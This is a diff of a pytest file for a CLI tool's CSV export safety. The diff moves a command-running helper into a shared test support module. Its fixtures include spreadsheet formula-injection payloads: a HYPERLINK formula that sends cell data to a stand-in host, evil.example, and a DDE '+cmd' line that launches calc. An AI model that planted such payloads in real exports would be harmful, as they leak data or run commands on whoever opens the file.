@@ -16,9 +16,9 @@ from pathlib import Path
 import pytest
 
 from kpilot.cli.export_safety import neutralised
-from kpilot.cli.main import run
 from kpilot.cli.output import csv_cell, csv_text
 from tests.support import make_workspace
+from tests.support import run_cli as kpilot
 
 DEFINITIONS = """
 sources:
@@ -34,15 +34,6 @@ kpis:
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
 CHANNELS = [LEAK, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1", "north;=1+1", "plain"]
 CLICKS = [1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, -3.5]
-
-
-def kpilot(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
-    with pytest.raises(SystemExit) as exited:
-        run(list(args))
-    captured = capsys.readouterr()
-    assert "Traceback" not in captured.out + captured.err
-    code = exited.value.code
-    return (code if isinstance(code, int) else 0), captured.out, captured.err
 
 
 @pytest.fixture
